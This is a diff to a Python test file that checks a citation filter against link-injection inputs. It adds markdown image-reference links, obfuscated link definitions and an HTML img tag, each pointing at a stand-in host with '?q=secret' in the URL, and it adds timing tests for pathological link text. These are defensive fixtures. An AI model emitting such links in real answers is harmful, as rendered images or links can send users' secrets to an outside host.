@@ -174,6 +174,14 @@ PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.e
         ("<https://evil.example>", "", ()),
         ("`https://evil.example`", "``", ()),
         ("HTTPS://EVIL.EXAMPLE", "", ()),
+        ("www.evil.example/?q=secret", "", ()),
+        ("https:evil.example/x", "", ()),
+        ("![x][a]\n\n[a]: //evil.example/?q=secret", "![x][a]\n\n", ()),
+        ("![x][a]\n> [a]:\n> &sol;/evil.example 'title'", "![x][a]\n", ()),
+        ("<img src='//evil.example/?q=secret'>", "<img src=''>", ()),
+        ("[a]: https://rivers.example/a", "[a]: https://rivers.example/a", ()),
+        ("[1]: the sea/ocean", "[1]: the sea/ocean", (1,)),
+        ("either//or, `x //self.y`", "either//or, `x //self.y`", ()),
         ("[2024] was a year [see 1]", " was a year [see 1]", ()),
     ],
 )
@@ -218,6 +226,6 @@ def test_an_answer_refers_to_what_the_model_was_shown(scene: Scene) -> None:
     assert len(warned) > 1
 
 
-def test_many_links_that_do_not_end_take_no_time() -> None:
-    text = "[x](" * 2000
+@pytest.mark.parametrize("text", ["[x](" * 2000, "[x]: " * 20_000, "[x]:" + "/a" * 20_000 + "<"])
+def test_many_links_that_do_not_end_take_no_time(text: str) -> None:
     assert cited(text, "", 0).text == text
